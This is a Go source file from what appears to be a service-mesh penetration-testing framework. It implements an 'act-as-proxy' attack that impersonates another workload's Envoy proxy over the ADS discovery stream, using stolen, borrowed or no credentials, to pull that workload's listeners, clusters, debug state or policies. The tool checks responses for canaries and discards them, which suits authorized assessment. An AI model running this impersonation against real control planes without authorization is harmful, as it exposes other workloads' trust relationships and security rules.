package attacks

import (
	"context"
	"errors"
	"fmt"

	"github.com/meshbreach/meshbreach/attacker"
)

// Asks is a kind of configuration that proxies ask for.
type Asks string

// What can be asked for.
const (
	AskListeners Asks = "listeners"
	AskClusters  Asks = "clusters"
	AskDebug     Asks = "debug" // the synchronisation of all proxies
	AskPolicies  Asks = "policies"
)

// ActAsProxy has the parameters of act-as-proxy.
type ActAsProxy struct {
	// Endpoint is xds (default) or xds-plaintext.
	Endpoint Endpoint `json:"endpoint,omitempty" jsonschema:"enum=xds,enum=xds-plaintext,default=xds"`
	// As is the cast member whose proxy it says it is; it has to be named.
	As string `json:"as,omitempty"`
	// NoAccount leaves out of which account the proxy says it is.
	NoAccount bool `json:"noAccount,omitempty"`
	// Ask is listeners (default), clusters, debug or policies.
	Ask Asks `json:"ask,omitempty" jsonschema:"enum=listeners,enum=clusters,enum=debug,enum=policies,default=listeners"`
	// Token is the credential, sent as a bearer token.
	Token *attacker.Token `json:"token,omitempty"`
	// Leaf is the credential, presented as a client certificate.
	Leaf *attacker.Leaf `json:"leaf,omitempty"`
}

// Loot asks for the credentials.
func (p *ActAsProxy) Loot() ([]*attacker.Leaf, []*attacker.Token) {
	return leaves(p.Leaf), tokens(p.Token)
}

// Searches says that the answer is searched for canaries.
func (p *ActAsProxy) Searches() bool { return true }

// Check refuses parameters that contradict each other.
func (p *ActAsProxy) Check() error {
	return errors.Join(
		oneOf("endpoint", p.Endpoint, EndpointXDS, EndpointXDSPlaintext),
		oneOf("ask", p.Ask, AskListeners, AskClusters, AskDebug, AskPolicies),
		refuse(p.Endpoint == EndpointXDSPlaintext && p.Leaf != nil, "leaf cannot be presented without TLS"),
		refuse(p.Leaf != nil && p.Leaf.Of == "", "leaf: name its owner with of"),
		checkTokens(p.Token),
	)
}

func actAsProxy() attacker.Attack {
	return attacker.New("act-as-proxy", "Ask for the configuration of another workload's proxy",
		`Opens the stream that delivers configuration to proxies (ADS) and claims to be
another workload's proxy. It uses its own credential, another workload's, or
none. The answer is searched for markers that only that proxy's configuration
contains, and is then discarded. A control plane that believes the name in the
request reveals whom the other workload trusts, what it calls and which rules
apply to it.`,
		func(ctx context.Context, f attacker.Foothold, t attacker.Target, nonce func() string, p ActAsProxy, emit func(attacker.Observation)) error {
			call, err := p.procedure(nonce(), f, t)
			if err != nil {
				return err
			}
			emit(f.SearchStream(ctx, call, t.Canaries))
			return nil
		})
}

// procedure is one request of the stream, of which the client's half then ends:
// what was asked for is answered, and the stream with it.
func (p ActAsProxy) procedure(nonce string, f attacker.Foothold, t attacker.Target) (attacker.Procedure, error) {
	endpoint := p.Endpoint
	if endpoint == "" {
		endpoint = EndpointXDS
	}
	at, err := behind(t, endpoint)
	if err != nil {
		return attacker.Procedure{}, err
	}
	token, err := bearer(p.Token)
	if err != nil {
		return attacker.Procedure{}, err
	}
	message, err := p.message(f, t)
	if err != nil {
		return attacker.Procedure{}, err
	}
	call := attacker.Procedure{
		Nonce: nonce, Address: at, Message: message, Metadata: map[string][]string{},
		Method: "/envoy.service.discovery.v3.AggregatedDiscoveryService/StreamAggregatedResources",
	}
	if token != "" {
		call.Metadata["authorization"] = []string{"Bearer " + token}
	}
	if endpoint == EndpointXDS {
		call.TLS = &attacker.TLS{ServerName: t.Authority.ServerName, ALPN: []string{"h2"}}
		if p.Leaf != nil {
			call.TLS.Leaf = p.Leaf.Held
		}
	}
	return call, nil
}

// message says which proxy it is and what it wants, in the mesh's own way.
func (p ActAsProxy) message(f attacker.Foothold, t attacker.Target) ([]byte, error) {
	id := t.Authority.Nodes[p.As]
	namespace, account, known := cutAccount(t, p.As)
	if id == "" || !known {
		return nil, fmt.Errorf("the proxy of %q is unknown", p.As)
	}
	protocol, err := f.Protocol(t.Authority.Protocol)
	if err != nil {
		return nil, err
	}
	proxies, ok := protocol.(attacker.DiscoveryProtocol)
	if !ok {
		return nil, fmt.Errorf("the proxies of this mesh do not ask for configuration by ADS (protocol %q)", protocol.Name())
	}
	q := attacker.DiscoveryRequest{Authority: *t.Authority, Node: id, Namespace: namespace, Account: account, Ask: string(p.Ask)}
	if p.NoAccount {
		q.Account = ""
	}
	return proxies.DiscoveryRequest(q)
}
